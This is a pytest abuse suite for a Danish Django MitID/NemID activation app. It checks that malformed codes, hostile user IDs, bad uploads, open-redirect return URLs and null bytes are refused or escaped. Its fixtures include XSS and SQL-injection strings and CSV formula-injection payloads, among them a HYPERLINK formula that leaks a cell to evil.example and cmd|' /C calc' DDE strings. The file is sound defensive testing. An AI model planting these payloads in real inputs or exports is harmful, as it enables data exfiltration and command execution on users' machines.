"""The inputs issue 7 names one by one: the employee's 8-digit code, the bruger-ID and its
look-alikes, the mobile number, the SMS code, uploads that are too big or not what they claim,
the broker's return address – and spreadsheet formulas in every CSV export."""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from activation.models import Invitation, SmsVerification
from organisations import services as organisation_services
from organisations.models import ConnectionDocument
from simulators import demo
from simulators.mitid.models import LoginRequest
from simulators.nemid.models import NemIDEmployee
from tests.abuse.forms import forms_of
from tests.abuse.hostile import assert_sane
from tests.employee.conftest import mitid_login_on_link
from tests.employee.factories import InvitationFactory, birth_date_user_with_account
from tests.factories import NemIDEmployeeFactory
from tests.helpers import demo_practice_connect, sign_in_person
from tests.separate.factories import invitation_create, session_start
from tests.separate.helpers import PHONE, post, walk_to_phone, walk_to_verify
from users.models import ImportRun, User
from users.services.import_nemid import users_import_from_nemid

pytestmark = pytest.mark.django_db

CODE = "48213907"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_FORMULA_MARKERS = ("HYPERLINK", "cmd|", "SUM(", "=1+1")


# --- The employee's temporary activation code (G6.6) -----------------------------------------


@pytest.fixture
def code_page(client):
    user, _account = birth_date_user_with_account("kode.abuse")
    invitation = InvitationFactory(user=user, token="abuse-token-" + "y" * 32, code=CODE)
    client.get("/aktiver/link/abuse-token-" + "y" * 32 + "/")
    mitid_login_on_link(client, "kode.abuse")
    client.post("/aktiver/privat-mitid/", {"use_private": "yes"})
    return invitation


@pytest.mark.parametrize(
    "typed",
    ["abcdefgh", "1234567", "123456789", "4821 390", "４８２１３９０７", "48213907\x00", " " * 8],
)
def test_a_malformed_code_gets_a_message_and_costs_no_try(client, code_page, typed):
    response = client.post("/aktiver/aktiveringskode/", {"code": typed})
    assert_sane(response, typed)
    assert response.status_code == 200
    assert "8 cifre" in response.content.decode()
    code_page.refresh_from_db()
    assert code_page.code_failures == 0
    assert code_page.state == Invitation.State.LIVE


# --- The separate MitID: bruger-ID, mobile number, SMS code (G7.3–G7.6) ----------------------


@pytest.fixture
def journey(client):
    invitation, _token = invitation_create()
    session_start(client, invitation)
    return invitation


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        ("0101901234", "ikke være et CPR-nummer eller 10 cifre"),
        ("010190-1234", "ikke være et CPR-nummer eller 10 cifre"),
        ("hаnne.v", "Ikke tilladt: а"),  # Cyrillic а
        ("hanne\u200b.v", "Ikke tilladt"),  # zero-width space
        (" hanne.v", "ikke begynde eller slutte med mellemrum"),
        ("hanne.v ", "ikke begynde eller slutte med mellemrum"),
        ("abc", "5 til 48 tegn"),
        ("x" * 49, "5 til 48 tegn"),
        ("<script>alert(1)</script>", "Ikke tilladt"),
        ("' OR 1=1 --", "Ikke tilladt"),
        ("hanne\x00v", "Null-tegn er ikke tilladte"),
    ],
)
def test_a_bad_bruger_id_gets_a_clear_message_and_goes_nowhere(client, journey, typed, message):
    post(client, "start", {"kind": "kodeviser"})
    post(client, "physical")
    response = post(client, "bruger_id", {"bruger_id": typed})
    assert_sane(response, typed)
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html
    assert "bruger_id" not in client.session.get("separate_activation", {})
    assert User.objects.filter(bruger_id__isnull=False).count() == 0


def test_a_bruger_id_taken_in_another_case_is_refused(client, journey):
    other, _ = invitation_create()
    holder = User.objects.get(pk=other.user_id)
    holder.bruger_id = "Klinik.Hanne"
    holder.save(update_fields=["bruger_id"])
    post(client, "start", {"kind": "kodeviser"})
    post(client, "physical")
    response = post(client, "bruger_id", {"bruger_id": "klinik.hANNE"})
    assert "Bruger-ID&#x27;et er optaget" in response.content.decode()


@pytest.mark.parametrize(
    "typed",
    [
        "1234567",
        "123456789",
        "12345678",
        "+46 22334455",
        "２２３３４４５５",
        "22334455\x00",
        "x" * 500,
    ],
)
def test_a_bad_mobile_number_sends_no_sms(client, journey, typed):
    walk_to_phone(client)
    response = post(client, "phone", {"number": typed})
    assert_sane(response, typed)
    assert response.status_code == 200
    assert "dansk mobilnummer på 8 cifre" in response.content.decode()
    assert not SmsVerification.objects.exists()


@pytest.mark.parametrize("typed", ["abcdef", "12345", "1234567", "１２３４５６", "123 45\x00", ""])
def test_a_malformed_sms_code_costs_no_try(client, journey, typed):
    walk_to_verify(client, number=PHONE)
    response = post(client, "verify", {"code": typed})
    assert_sane(response, typed)
    assert response.status_code == 200
    assert SmsVerification.objects.get().failures == 0


# --- Uploads on the manual connection (G2.6) ---------------------------------------------------


@pytest.fixture
def documents_url(client):
    call_command("seed_demo", verbosity=0)
    doctor = next(p for p in demo.PEOPLE if p.username == "soeren.bech")
    sign_in_person(client, doctor)
    connection = organisation_services.connection_start(
        cpr=doctor.cpr, person_name=doctor.full_name, cvr=demo.DENTAL_CVR, manual=True
    )
    organisation_services.connection_accept_terms(connection=connection)
    organisation_services.connection_choose_admin(
        connection=connection, choice="self", requester_email="soeren@example.dk"
    )
    return f"/nemlog-in/tilslut/{connection.pk}/dokumentation/"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("aarsrapport.pdf", b"%PDF-1.7\n" + b"0" * (5 * 1024 * 1024 + 1), "højst fylde 5 MB"),
        ("aarsrapport.pdf", b"MZ\x90\x00\x03 this is a Windows program", "PDF eller et billede"),
        ("aarsrapport.pdf", b"<html><script>alert(1)</script></html>", "PDF eller et billede"),
        ("<script>alert(1)</script>.pdf", b"GIF89a not allowed", "PDF eller et billede"),
        ("tom.pdf", b"", ""),
    ],
    ids=["huge", "exe", "html", "gif-named-script", "empty"],
)
def test_a_bad_upload_is_refused_and_nothing_is_stored(
    client, documents_url, name, content, message
):
    response = client.post(
        documents_url, {"document": SimpleUploadedFile(name, content, "application/pdf")}
    )
    assert_sane(response, name)
    assert response.status_code in (200, 400, 413)
    assert message in response.content.decode()
    assert not ConnectionDocument.objects.exists()


def test_a_hostile_file_name_is_stored_escaped(client, documents_url):
    name = "<script>alert(1)</script>.pdf"
    response = client.post(
        documents_url,
        {"document": SimpleUploadedFile(name, b"%PDF-1.7\n%%EOF", "application/pdf")},
        follow=True,
    )
    assert_sane(response, name)
    assert ConnectionDocument.objects.count() == 1
    for url in (documents_url, documents_url.replace("dokumentation", "bekraeft")):
        assert_sane(client.get(url, follow=True), url)


# --- The broker's return address (open redirect) -------------------------------------------


@pytest.mark.parametrize(
    "return_url",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "javascript:alert(1)",
        "http://testserver@evil.example/",
        pytest.param("/" + "x" * 600, id="too-long"),
    ],
)
def test_the_broker_never_returns_to_a_foreign_or_absurd_address(client, return_url):
    call_command("seed_demo", verbosity=0)
    data = {
        "client": "<script>alert(1)</script>",
        "return_url": return_url,
        "state": "x" * 1000,
        "username": "hanne.vestergaard",
        "method": "app",
    }
    response = client.post("/simulator/mitid/log-ind/", data)
    assert_sane(response, return_url)
    if response.status_code == 302:
        request = LoginRequest.objects.latest("created_at")
        client.post(
            f"/simulator/mitid/app/hanne.vestergaard/{request.pk}/", {"decision": "approve"}
        )
        finish = client.get(f"/simulator/mitid/log-ind/{request.pk}/fortsaet/")
        assert_sane(finish, return_url)
        location = finish.get("Location", "")
        assert location.startswith("/") and not location.startswith(("//", "/\\")), location
    else:
        assert response.status_code == 400


# --- Spreadsheet formulas in every CSV export ----------------------------------------------


def _rows(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=";,")
    return list(csv.reader(io.StringIO(text), dialect))


def _assert_formula_safe(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row if any(m in cell for m in _FORMULA_MARKERS)]
    assert cells, "the payloads did not reach the export"
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), repr(cell)


@pytest.fixture
def practice_admin(client):
    owner = next(p for p in demo.PEOPLE if p.key == "owner")
    practice = demo_practice_connect()
    admin = practice.users.get(first_name=owner.first_name, last_name=owner.last_name)
    client.force_login(admin)
    return practice


def test_formulas_in_names_come_out_escaped_in_the_import_report(client, practice_admin):
    for formula in FORMULAS:
        NemIDEmployeeFactory(cvr=practice_admin.cvr, first_name=formula, last_name=formula)
    NemIDEmployeeFactory(
        cvr=practice_admin.cvr,
        first_name="Ole",
        last_name="=1+1",
        status=NemIDEmployee.Status.REVOKED,
    )
    run = users_import_from_nemid(organisation=practice_admin, started_by_name="=1+1 Hanne")
    assert run.state == ImportRun.State.DONE
    response = client.get(f"/brugere/import/{run.pk}/rapport.csv")
    assert response.status_code == 200
    _assert_formula_safe(_rows(response.getvalue()))


def test_formulas_in_names_come_out_escaped_in_the_audit_log(client, practice_admin):
    users_import_from_nemid(organisation=practice_admin, started_by_name="Hanne")
    user = practice_admin.users.filter(state=User.State.IMPORTED).first()
    edit_url = f"/brugere/{user.pk}/rediger/"
    page = client.get(edit_url)
    form = next(f for f in forms_of(page.content.decode(), edit_url) if "first_name" in f.editable)
    for formula in FORMULAS[:4]:
        data = {**form.defaults(), "first_name": formula, "last_name": formula}
        response = client.post(edit_url, data)
        assert_sane(response, formula)
        page = client.get(edit_url)
        form = next(
            f for f in forms_of(page.content.decode(), edit_url) if "first_name" in f.editable
        )
    user.refresh_from_db()
    assert re.search(r"cmd|SUM|HYPERLINK", user.first_name), "the edits were not saved"
    response = client.get("/organisation/revisionslog.csv")
    assert response.status_code == 200
    _assert_formula_safe(_rows(response.getvalue()))


def test_a_nul_in_a_cookie_or_the_query_is_a_clear_400(client):
    client.cookies["sessionid"] = "a\x00b"
    response = client.get("/")
    assert response.status_code == 400
    assert "Ugyldig forespørgsel" in response.content.decode()
    client.cookies.clear()
    response = client.get("/brugere/", {"q": "a\x00b"})
    assert response.status_code == 400
    assert "Ugyldig forespørgsel" in response.content.decode()
